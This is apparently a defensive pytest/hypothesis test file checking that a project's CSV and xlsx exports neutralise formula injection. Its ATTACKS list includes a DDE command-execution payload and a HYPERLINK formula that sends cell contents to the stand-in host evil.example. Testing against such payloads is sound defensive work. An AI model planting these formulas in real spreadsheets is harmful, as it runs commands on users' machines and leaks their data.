"""Whatever stands in a cell, a spreadsheet takes it for text."""

import csv
import io
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from openpyxl.reader.excel import load_workbook

from samspel.core import sheets

SAMSPEL = Path(__file__).resolve().parents[2]
TEXT = st.text(st.characters(codec="utf-8", exclude_characters="\x00"), max_size=30)
BEGUN = st.sampled_from(["=", "+", "-", "@", "\t", "\r", "\n", " =", "＝", "＋", "－", "＠", "'=", '"=', ";=", "%0A="])
CELLS = st.builds(str.__add__, BEGUN, TEXT) | TEXT
DANGEROUS = tuple("=+-@\t\r\n＝＋－＠")
ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1+1",
    '";=1+1;"',
    "=1\n;=2",
    "https://evil.example",
]


def made(kind: str, headings: list[str], cells: list[str]) -> bytes:
    """A file of one row under headings that are anything too: somebody's own words may become one."""
    return sheets.response("list", kind, [(heading, 10) for heading in headings], [cells]).content


TWO_ROWS = st.integers(1, 5).flatmap(lambda size: st.tuples(*[st.lists(CELLS, min_size=size, max_size=size)] * 2))


@pytest.mark.asvs("V1.3.3")
@settings(deadline=None)
@given(rows=TWO_ROWS)
@example(rows=(ATTACKS, ATTACKS))
def test_a_cell_in_excels_form_is_text_and_stays_what_it_was(rows: tuple[list[str], list[str]]) -> None:
    sheet = load_workbook(io.BytesIO(made("xlsx", *rows))).active  # type: ignore[no-untyped-call]
    assert sheet is not None
    written = [cell for row in rows for cell in row]
    read = [cell for row in sheet.iter_rows(max_row=2, max_col=len(rows[0])) for cell in row]
    for cell, found in zip(written, read, strict=True):
        assert found.data_type == "s" or (not cell and found.value is None)
        assert found.hyperlink is None
        assert cell.isprintable() is False or (found.value or "") == cell


@settings(deadline=None)
@given(rows=TWO_ROWS)
@example(rows=(ATTACKS, ATTACKS))
def test_no_cell_of_a_csv_begins_as_a_formula_does_and_none_breaks_out(rows: tuple[list[str], list[str]]) -> None:
    read = list(csv.reader(io.StringIO(made("csv", *rows).decode("utf-8-sig"), newline=""), delimiter=";"))
    assert len(read) == 2
    for written, there in zip(rows, read, strict=True):
        for cell, found in zip(written, there, strict=True):
            assert not found.lstrip(" ").startswith(DANGEROUS)
            assert found.removeprefix("'") == cell or found == cell


def test_no_other_place_makes_a_sheet() -> None:
    makers = [path for path in SAMSPEL.glob("**/*.py") if "/tests/" not in str(path)]
    found = [
        path.name
        for path in makers
        if any(word in path.read_text() for word in ("csv.writer", "DictWriter", "xlsxwriter"))
    ]
    assert found == ["sheets.py"]
